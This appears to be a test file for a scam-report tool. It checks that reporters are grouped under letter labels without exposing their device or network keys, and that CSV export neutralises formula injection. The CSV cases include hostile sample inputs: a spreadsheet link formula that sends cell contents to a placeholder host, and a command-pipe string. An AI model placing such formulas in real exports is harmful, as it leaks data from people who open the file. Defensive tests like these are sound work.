import { describe, expect, it } from 'vitest';
import { csvCell, groupReporters, reporterLabel, type ReportRecord } from './views.js';

let seq = 0;
function row(keys: { account?: string; device?: string; network?: string }, at = ++seq): ReportRecord {
  return {
    id: `r${String(at).padStart(3, '0')}`, e164: '+525512345678', channel: 'call', type: 'virtual_kidnapping', occurred_at: at, claimed: null,
    amount_mxn: null, paid: 0, clabe: null, card_masked: null, bank: null, notes: null,
    key_account: keys.account ?? null, key_device: keys.device ?? null, key_network: keys.network ?? null, status: 'new', created_at: at,
  };
}

describe('reporters as letters', () => {
  it('names reporters A, B, C… by their first report; reports sharing any key are one reporter, transitively', () => {
    const reports = [
      row({ network: 'n1' }), // A
      row({ device: 'd1', account: 'd1a', network: 'n2' }), // B
      row({ network: 'n3' }), // C … until the next one ties it to B
      row({ device: 'd1', network: 'n3' }),
      row({ device: 'd2', network: 'n4' }), // D
      row({ network: 'n1' }), // A again
    ];
    const { reports: views, reporters } = groupReporters([...reports].reverse());
    expect(views.map((v) => v.reporter)).toEqual(['A', 'B', 'B', 'B', 'C', 'A']);
    expect(reporters).toEqual([
      { label: 'A', reports: 2, devices: 0, networks: 1, anonymous: 2 },
      { label: 'B', reports: 3, devices: 1, networks: 2, anonymous: 1 },
      { label: 'C', reports: 1, devices: 1, networks: 1, anonymous: 0 },
    ]);
    const text = JSON.stringify({ views, reporters });
    for (const secret of ['d1', 'd1a', 'n1', 'n2', 'n3', 'n4', 'key_']) expect(text).not.toContain(`"${secret}`);
  });

  it('goes on after Z as AA, AB…', () => {
    expect([0, 1, 25, 26, 27, 51, 52, 701, 702].map(reporterLabel)).toEqual(['A', 'B', 'Z', 'AA', 'AB', 'AZ', 'BA', 'ZZ', 'AAA']);
  });
});

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?d="&A1,"ver")', `"'=HYPERLINK(""http://x.example/?d=""&A1,""ver"")"`],
    ['+52 55 cmd|calc', "'+52 55 cmd|calc"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', `"'\rx"`],
    ['Tenemos a tu hijo', 'Tenemos a tu hijo'], ['a, b', '"a, b"'], [null, ''], [12.5, '12.5'],
  ])('neutralises %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
